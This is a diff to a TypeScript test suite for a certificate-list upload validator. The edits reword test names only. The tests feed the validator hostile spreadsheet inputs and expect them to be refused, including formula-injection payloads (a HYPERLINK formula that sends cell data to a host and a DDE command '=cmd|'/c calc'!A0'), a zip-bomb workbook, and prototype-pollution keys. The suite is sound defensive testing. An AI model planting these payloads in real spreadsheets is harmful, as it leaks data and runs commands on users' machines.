@@ -26,7 +26,7 @@ const check = async (file: Buffer, name: string) => {
   return answer;
 };
 
-/** A unit test (`certificate-sheet/hostile-lists`) checks the message of each file: here is one of each kind. */
+/** A unit test (`certificate-sheet/hostile-lists`) checks the message for every file: this is one file of each kind. */
 const some = (...names: string[]) => {
   const found = refusedLists.filter(([name]) => names.includes(name));
   expect(found).toHaveLength(names.length);
@@ -35,7 +35,7 @@ const some = (...names: string[]) => {
 
 describe('A file that is not a list', () => {
   test.each(some('bomb-that-lies.xlsx', 'macros.xlsx', 'latin.csv', 'nul.csv'))(
-    '%s is rejected with the reason',
+    '%s is rejected with a reason',
     async (name, file, msg) => {
       const { status, body } = await check(await file(), name);
       expect([status, body]).toEqual([
@@ -64,7 +64,7 @@ describe('A small workbook that would keep the server busy for minutes', () => {
     expect((await check(packed(partsOf(sheetData(rows))), 'list.xlsx')).status).toBe(200);
   });
 
-  test('is accepted with elements 32 deep', async () => {
+  test('is accepted if its elements are nested 32 deep', async () => {
     const deep = `${'<a>'.repeat(31)}${'</a>'.repeat(31)}`;
     expect((await check(packed(partsOf(sheetData(rows) + deep)), 'list.xlsx')).status).toBe(200);
   });
@@ -79,16 +79,16 @@ const errorsOf = async (file: Buffer) => {
 describe('A list with hostile content', () => {
   test.each([
     ['=1+1', 'a formula'],
-    ['=HYPERLINK("http://127.0.0.1/?"&A1,"Asha")', 'one that calls home'],
-    ["=cmd|'/c calc'!A0", 'one that starts a program'],
-    ['="00012"', 'one that keeps zeros'],
+    ['=HYPERLINK("http://127.0.0.1/?"&A1,"Asha")', 'a formula that calls home'],
+    ["=cmd|'/c calc'!A0", 'a formula that starts a program'],
+    ['="00012"', 'a formula that keeps zeros'],
   ])('%s is %s and is not accepted as a name', async (formula) => {
     expect(await errorsOf(csv([HEAD, [formula, 'Web', 'Course', '', '', '']]))).toEqual([
       { field: 'Name', msg: 'This is a formula. Please paste its result as a value.' },
     ]);
   });
 
-  test('an endless cell gets an error and is not sent back in full', async () => {
+  test('a huge cell gets an error and is not sent back in full', async () => {
     for (const file of [
       csv([HEAD, ['x'.repeat(900_000), 'Web', 'Course', '', '', '']]),
       await xlsxOf([HEAD, ['x'.repeat(32_767), 'Web', 'Course']]),
@@ -99,7 +99,7 @@ describe('A list with hostile content', () => {
     }
   });
 
-  test('a cell far to the right, ten thousand of them, or one in the last row, is read quickly', async () => {
+  test('a cell far to the right, ten thousand such cells, or a cell in the last row are read quickly', async () => {
     const far = `<c r="XFD2" t="inlineStr"><is><t>far</t></is></c>`;
     const many = '<c t="inlineStr"><is><t>x</t></is></c>'.repeat(10_000);
     const cells = (names: readonly string[], row: number) =>
@@ -109,7 +109,7 @@ describe('A list with hostile content', () => {
     expect(body.data.rows).toMatchObject([{ row: 1_048_576, texts: { Name: 'Sample' }, errors: [] }]);
   });
 
-  test('HTML and property names of objects are plain text', async () => {
+  test('HTML and the names of object properties are treated as plain text', async () => {
     const { body } = await check(
       csv([
         [...HEAD, '__proto__', 'constructor'],
